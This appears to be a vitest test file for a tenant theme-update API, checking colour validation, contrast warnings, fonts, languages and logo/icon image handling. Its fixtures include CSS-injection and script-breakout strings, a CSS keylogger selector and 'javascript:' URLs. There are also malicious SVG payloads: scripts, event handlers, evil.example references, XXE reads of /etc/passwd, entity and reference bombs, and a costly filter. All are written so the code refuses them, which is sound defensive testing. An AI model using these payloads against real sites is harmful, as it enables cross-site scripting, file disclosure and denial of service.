import { eq } from "drizzle-orm";
import sharp from "sharp";
import { describe, expect, it } from "vitest";
import { testDatabase } from "@/lib/db/testing";
import { themeImages, themes } from "@/lib/db/schema";
import { logoSource } from "@/lib/tenancy/plain-page";
import { defaultTheme, forgetThemes, tenantTheme } from "@/lib/tenancy/theme";
import { contrastReport } from "@/lib/tenancy/theme-contrast";
import { themeCss } from "@/lib/tenancy/theme-css";
import { findThemeImage } from "@/lib/tenancy/theme-images";
import { callerOf, refusal } from "@/lib/testing/call";
import { makeAccount, makeMember, makeTenant } from "@/lib/testing/factories";

const { db } = await testDatabase();

async function setUp() {
  const account = await makeAccount(db);
  const tenant = await makeTenant(db, { accountId: account.id });
  return { tenant, call: callerOf(db, (await makeMember(db, account, "admin")).actor) };
}

const picture = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: "#336699" } });
const svg = (content: string, attributes = "") => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="20" ${attributes}>${content}</svg>`);
const upload = (bytes: Buffer, type: string) => ({ logo_base64: bytes.toString("base64"), logo_content_type: type });
const uploadIcon = (bytes: Buffer, type: string) => ({ icon_base64: bytes.toString("base64"), icon_content_type: type });
const fileOf = (url: unknown) => String(url).split("/").at(-1)!;

describe("update_theme", () => {
  it("changes what is given and keeps the rest, in both palettes", async () => {
    const { call } = await setUp();
    const before = await call("get_theme");
    const after = await call("update_theme", { primary_color: "#ABC", dark: { text_color: "#ffffff" }, corner_style: "pill" });
    const { contrast: _contrast, warnings: _warnings, updated_at: _before, ...kept } = before;
    expect(after).toMatchObject({ ...kept, primary_color: "#ABC", corner_style: "pill", dark: { ...(before.dark as object), text_color: "#ffffff" } });
    expect(await call("get_theme")).toEqual(after);
  });

  it("takes a whole theme back as it was read", async () => {
    const { call } = await setUp();
    await call("update_theme", upload(await picture(10, 10).png().toBuffer(), "image/png"));
    const theme = await call("get_theme");
    expect(theme.logo_url).toBeTypeOf("string");
    expect(await call("update_theme", theme)).toEqual({ ...theme, updated_at: expect.any(String) as string });
  });

  it.each(["red", "red;} body{background:url(//evil)} /*", "expression(alert(1))", "</style><script>", "#12", "#12345", "#1234567", "#gggggg", "#ffffff ", "var(--x)", ""])("DB-02 refuses the colour %j", async (value) => {
    const { call } = await setUp();
    expect((await refusal(call("update_theme", { primary_color: value }))).details).toHaveProperty("primary_color");
    expect((await refusal(call("update_theme", { dark: { text_color: value } }))).details).toHaveProperty(["dark.text_color"]);
  });

  it.each([{ font: "x;} body{" }, { font: 'a"b' }, { default_language: "en;<" }, { default_language: "tlh" }, { font: "</style><script>" }, { color_mode: "sepia" }, { logo_url: "javascript:alert(1)" }, { logo_url: "http://example.com/a.png" }, { logo_url: "/etc/passwd" }, { icon_url: "data:image/svg+xml,<svg>" }, { corner_style: "round" }, { dark: { logo_url: "x" } }])("DB-02 refuses %j", async (fields) => {
    const { call } = await setUp();
    expect((await refusal(call("update_theme", fields))).code).toBe("validation_error");
  });

  it.each(["custom_css", "css", "style", "html"])("DB-03 takes no %s: rules of a tenant's own are not offered", async (field) => {
    const { call } = await setUp();
    expect((await refusal(call("update_theme", { [field]: "input[value^=a]{background:url(//evil.example/a)}" }))).code).toBe("validation_error");
  });

  it("warns of text that is hard to read (WCAG 1.4.3)", async () => {
    const { call } = await setUp();
    expect((await call("get_theme")).warnings).toEqual([]);
    const { warnings } = await call("update_theme", { text_color: "#cccccc", background_color: "#ffffff", box_background_color: "#000000", color_mode: "light" });
    expect(warnings).toEqual([expect.stringMatching(/^light: text_color on background_color .* 1\.6:1/)]);
  });
});

describe("what update_theme says of colours", () => {
  const faint = { text_color: "#cccccc", color_mode: "light" };

  it("answers with every pair, and get_theme with the same", async () => {
    const { call } = await setUp();
    const changed = await call("update_theme", faint);
    expect(changed.contrast).toContainEqual({ mode: "light", pair: "text_color on box_background_color", foreground: "#cccccc", background: "#ffffff", ratio: 1.6, required: 4.5, passes: false, nearest: "#717171" }); // it reads on the page too
    expect((await call("get_theme")).contrast).toEqual(changed.contrast);
    expect((await call("update_theme", { text_color: "#757575" })).contrast).toContainEqual(expect.objectContaining({ pair: "text_color on box_background_color", passes: true, nearest: null }));
  });

  it("warns of a main colour that does not stand out, with 3:1 as its measure (WCAG 2.2 §1.4.11)", async () => {
    const { call } = await setUp();
    const { warnings } = await call("update_theme", { primary_color: "#ffe14d", color_mode: "light" });
    expect(warnings).toEqual([expect.stringMatching(/^light: primary_color on box_background_color .* 1\.3:1; .* 3:1 .* #[0-9a-f]{6} would do\.$/)]);
  });

  it("refuses only when asked to be strict, and then changes nothing", async () => {
    const { call } = await setUp();
    const before = await call("get_theme");
    const told = await refusal(call("update_theme", { ...faint, dark: { secondary_button_text_color: "#222222" }, color_mode: "light_dark", strict: true }));
    expect(told).toMatchObject({ code: "validation_error", details: { text_color: expect.stringContaining("would do"), "dark.secondary_button_text_color": expect.any(String) } });
    expect(await call("get_theme")).toEqual(before);
    expect((await call("update_theme", { ...faint, strict: false })).text_color).toBe("#cccccc");
    expect((await call("update_theme", { text_color: "#1c1c21", strict: true })).text_color).toBe("#1c1c21");
  });

  it("does not count a mode that is never shown", async () => {
    const { call } = await setUp();
    expect((await call("update_theme", { dark: { text_color: "#000000" }, color_mode: "light", strict: true })).warnings).toEqual([]);
    expect((await refusal(call("update_theme", { color_mode: "light_dark", strict: true }))).details).toHaveProperty(["dark.text_color"]);
  });

  it("makes dark colours from the light ones when asked to, and they pass; those given win", async () => {
    const { call } = await setUp();
    const { dark, warnings } = (await call("update_theme", { primary_color: "#0b5d3b", derive_dark: true, dark: { text_color: "#fefefe" } })) as unknown as { dark: Record<string, string>; warnings: string[] };
    expect(warnings).toEqual([]);
    expect(dark.text_color).toBe("#fefefe");
    expect(dark.primary_color).not.toBe("#0b5d3b");
    expect((await call("update_theme", { primary_color: "#c2185b" })).dark).toEqual(dark);
  });

  it("a row written past us shows and reads as its default colours", async () => {
    const { call, tenant } = await setUp();
    const evil = "red;}</style><script>alert(1)</script>";
    await call("update_theme", { text_color: "#222222" });
    await db.update(themes).set({ light: { ...defaultTheme.light, primary_color: evil }, font: evil, cornerStyle: evil as "pill", logoUrl: "javascript:alert(1)" }).where(eq(themes.tenantId, tenant.id));
    forgetThemes();
    const theme = await tenantTheme(db, tenant);
    expect(themeCss(theme)).toBe(themeCss(defaultTheme));
    expect(logoSource(theme.logoUrl)).toBeUndefined();
    expect(contrastReport(theme)).toEqual(contrastReport(defaultTheme));
  });
});

describe("font, language and reset", () => {
  it("a font is one of the list, however it is written", async () => {
    const { call } = await setUp();
    expect((await call("update_theme", { font: "source-serif 4" })).font).toBe("Source Serif 4");
    expect((await refusal(call("update_theme", { font: "Comic Sans" }))).details).toEqual({ font: expect.stringMatching(/^must be one of system, serif, mono, rounded, DM Sans, .*Inter/) });
  });

  it("a font and a language from before there were lists are read, and may be written back", async () => {
    const { call, tenant } = await setUp();
    await call("update_theme", { font: "Inter" });
    await db.update(themes).set({ font: "Comic Neue", defaultLanguage: "pt-BR" }).where(eq(themes.tenantId, tenant.id));
    const theme = await call("get_theme");
    expect(theme).toMatchObject({ font: "Comic Neue", default_language: "pt-BR" });
    expect(await call("update_theme", theme)).toEqual({ ...theme, updated_at: expect.any(String) as string });
  });

  it("the language of pages is the browser's at first, and can be fixed to one that they speak", async () => {
    const { call } = await setUp();
    expect((await call("get_theme")).default_language).toBe("auto");
    for (const language of ["en", "de", "fr", "es", "ja", "ar", "auto"]) expect((await call("update_theme", { default_language: language })).default_language).toBe(language);
    expect((await refusal(call("update_theme", { default_language: "sv" }))).details).toEqual({ default_language: "must be one of auto, en, de, fr, es, ja, ar" });
  });

  it("reset puts back what is not given, and the pictures go", async () => {
    const { call, tenant } = await setUp();
    const untouched = await call("get_theme");
    const png = await picture(10, 10).png().toBuffer();
    const { logo_url } = await call("update_theme", { ...upload(png, "image/png"), ...uploadIcon(png, "image/png"), primary_color: "#123456", font: "Inter", corner_style: "square", dark: { text_color: "#ffffff" } });
    expect(await call("update_theme", { reset: true, corner_style: "pill" })).toEqual({ ...untouched, corner_style: "pill", updated_at: expect.any(String) as string });
    expect(await findThemeImage(db, tenant, "logo", fileOf(logo_url))).toBeUndefined();
    expect(await db.select().from(themeImages).where(eq(themeImages.tenantId, tenant.id))).toEqual([]);
  });
});

describe("the icon", () => {
  it("is drawn as a square PNG, beside the logo, and goes with null", async () => {
    const { call, tenant } = await setUp();
    const png = await picture(600, 300).png().toBuffer();
    const { icon_url, logo_url } = await call("update_theme", { ...upload(png, "image/png"), ...uploadIcon(png, "image/png") });
    expect(icon_url).toMatch(new RegExp(`^${tenant.issuer}/oauth2/images/icon/[0-9a-f]{64}\\.png$`));
    const icon = await findThemeImage(db, tenant, "icon", fileOf(icon_url));
    expect(await sharp(icon!.content).metadata()).toMatchObject({ format: "png", width: 192, height: 192 });
    expect(await call("update_theme", { icon_url: null })).toMatchObject({ icon_url: null, logo_url });
    expect(await findThemeImage(db, tenant, "icon", fileOf(icon_url))).toBeUndefined();
    expect(await findThemeImage(db, tenant, "logo", fileOf(logo_url))).toBeDefined();
  });

  it("DB-06 is refused when it is too large, of another type, or given by half", async () => {
    const { call } = await setUp();
    const png = await picture(10, 10).png().toBuffer();
    expect((await refusal(call("update_theme", { icon_base64: "A".repeat(300_004), icon_content_type: "image/png" }))).details).toHaveProperty("icon_base64");
    expect((await refusal(call("update_theme", uploadIcon(png, "image/jpeg")))).details).toEqual({ icon_base64: "is not image/jpeg" });
    expect((await refusal(call("update_theme", { icon_content_type: "image/png" }))).details).toHaveProperty("icon_base64");
    expect((await refusal(call("update_theme", { ...uploadIcon(png, "image/png"), icon_url: null }))).details).toHaveProperty("icon_url");
  });
});

describe("the logo", () => {
  it.each(["png", "jpeg", "webp"] as const)("%s is drawn anew as PNG of at most 512 px and found by its hash", async (format) => {
    const { call, tenant } = await setUp();
    const { logo_url } = await call("update_theme", upload(await picture(1200, 600)[format]().toBuffer(), `image/${format}`));
    expect(logo_url).toMatch(new RegExp(`^${tenant.issuer}/oauth2/images/logo/[0-9a-f]{64}\\.png$`));
    const image = await findThemeImage(db, tenant, "logo", String(logo_url).split("/").at(-1)!);
    expect(await sharp(image!.content).metadata()).toMatchObject({ format: "png", width: 512, height: 256 });
    expect(await findThemeImage(db, (await setUp()).tenant, "logo", String(logo_url).split("/").at(-1)!)).toBeUndefined();
  });

  it("an SVG is drawn as PNG too", async () => {
    const { call, tenant } = await setUp();
    const { logo_url } = await call("update_theme", upload(svg('<defs><linearGradient id="g"><stop stop-color="red"/></linearGradient></defs><rect width="40" height="20" fill="url(#g)"/>'), "image/svg+xml"));
    const image = await findThemeImage(db, tenant, "logo", String(logo_url).split("/").at(-1)!);
    expect(await sharp(image!.content).metadata()).toMatchObject({ format: "png", width: 512, height: 256 });
  });

  it("a DOCTYPE as drawing programs write it is no hindrance, and its address is not fetched", async () => {
    const { call } = await setUp();
    const plain = Buffer.concat([Buffer.from('<?xml version="1.0" encoding="utf-8"?>\n<!-- Generator -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://127.0.0.1:9/svg11.dtd">\n'), svg('<rect width="40" height="20"/>')]);
    expect((await call("update_theme", upload(plain, "image/svg+xml"))).logo_url).toBeTypeOf("string");
  });

  it("goes with null, and its file with it", async () => {
    const { call, tenant } = await setUp();
    const { logo_url } = await call("update_theme", upload(await picture(10, 10).png().toBuffer(), "image/png"));
    expect((await call("update_theme", { logo_url: null })).logo_url).toBeNull();
    expect(await findThemeImage(db, tenant, "logo", String(logo_url).split("/").at(-1)!)).toBeUndefined();
  });

  it("DB-06 loses its metadata", async () => {
    const { call, tenant } = await setUp();
    const bytes = await picture(20, 20).withExif({ IFD0: { Copyright: "secret place" } }).jpeg().toBuffer();
    expect(bytes.includes("secret place")).toBe(true);
    const { logo_url } = await call("update_theme", upload(bytes, "image/jpeg"));
    const image = await findThemeImage(db, tenant, "logo", String(logo_url).split("/").at(-1)!);
    expect(Buffer.from(image!.content).includes("secret place")).toBe(false);
  });

  it.each([
    ["a script", svg("<script>alert(1)</script>")], ["a prefixed script", svg('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>')], ["an event handler", svg("", 'onload="alert(1)"')],
    ["a foreignObject", svg("<foreignObject><body/></foreignObject>")], ["a reference outside", svg('<use href="https://evil.example/x.svg#a"/>')], ["a file", svg('<image href="file:///etc/passwd"/>')],
    ["an unquoted reference", svg("<use xlink:href=https://evil.example/ />")], ["a disguised reference", svg('<use href="&#104;ttps://evil.example/"/>')], ["CSS that fetches", svg("<style>@import '//evil.example/x.css';</style>")],
    ["CSS with escapes", svg("<style>rect{fill:u\\72l(//evil.example)}</style>")], ["a fill from outside", svg('<rect fill="url(https://evil.example/#g)"/>')],
    ["an external entity", Buffer.from('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>')],
    ["an entity after the root", Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>')],
    ["entities that multiply", Buffer.from(`<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "${"&a;".repeat(10)}"><!ENTITY c "${"&b;".repeat(10)}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&c;</text></svg>`)],
    ["references that multiply", svg(`<defs><g id="l0"><rect width="1" height="1"/></g>${Array.from({ length: 9 }, (_, at) => `<g id="l${at + 1}">${`<use href="#l${at}"/>`.repeat(10)}</g>`).join("")}</defs><use href="#l9"/>`)],
    ["a filter that takes seconds", svg('<filter id="f"><feTurbulence numOctaves="100000"/></filter><rect filter="url(#f)" width="40" height="20"/>')],
    ["too many elements", svg('<circle r="9"/>'.repeat(6_000))],
    ["a style sheet instruction", svg('<?xml-stylesheet href="//evil.example/x.css"?>')],
  ])("DB-05 an SVG with %s is refused", async (_what, bytes) => {
    const { call } = await setUp();
    expect(await refusal(call("update_theme", upload(bytes, "image/svg+xml")))).toMatchObject({ code: "validation_error", details: { logo_base64: expect.any(String) } });
  });

  it("DB-06 refuses what is not what it says, is broken, or is too large", async () => {
    const { call } = await setUp();
    const png = await picture(10, 10).png().toBuffer();
    const huge = await picture(4_200, 4_200).png({ compressionLevel: 9 }).toBuffer();
    expect(huge.length).toBeLessThan(500_000);
    const hugeSvg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="20000" height="20000"/>');
    const attempts = [
      upload(png, "image/jpeg"), upload(png, "image/svg+xml"), upload(svg(""), "image/png"), upload(Buffer.from("GIF89a......"), "image/png"), upload(png.subarray(0, 40), "image/png"),
      upload(Buffer.from("<html><svg></svg></html>"), "image/svg+xml"), { logo_base64: "%%%%", logo_content_type: "image/png" }, upload(huge, "image/png"), upload(hugeSvg, "image/svg+xml"),
    ];
    for (const attempt of attempts) expect((await refusal(call("update_theme", attempt))).details).toHaveProperty("logo_base64");
    expect((await refusal(call("update_theme", { logo_base64: "A".repeat(700_004), logo_content_type: "image/png" }))).details).toHaveProperty("logo_base64");
    expect((await refusal(call("update_theme", { logo_base64: "AAAA" }))).details).toHaveProperty("logo_content_type");
    expect((await refusal(call("update_theme", upload(png, "image/gif")))).details).toHaveProperty("logo_content_type");
    expect((await call("get_theme")).logo_url).toBeNull();
  });
});
